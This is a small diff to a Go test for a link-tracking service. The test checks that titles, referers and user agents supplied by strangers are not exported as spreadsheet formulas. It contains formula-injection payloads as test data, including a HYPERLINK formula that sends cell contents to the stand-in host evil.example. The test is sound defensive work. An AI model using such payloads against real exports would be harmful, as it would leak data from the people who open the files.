@@ -317,7 +317,7 @@ func TestADownloadMayTakeLongerThanTheServersLimit(t *testing.T) {
 
 func TestTextsOfStrangersAreNoFormulas(t *testing.T) {
 	s := newService(t, memstore.New(), linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{VanityLink: "spring", Title: "@SUM(1)"})
+	l := s.linkOf(linktrack.NewLink{VanityLink: "spring", LinkSettings: linktrack.LinkSettings{Title: "@SUM(1)"}})
 	hostile := `=HYPERLINK("http://evil.example/?"&A1,"x")`
 	r := s.get("/spring?"+"=cmd", "Referer", "-2+3;=1+1", "User-Agent", hostile)
 	require.Equal(t, http.StatusFound, r.StatusCode)
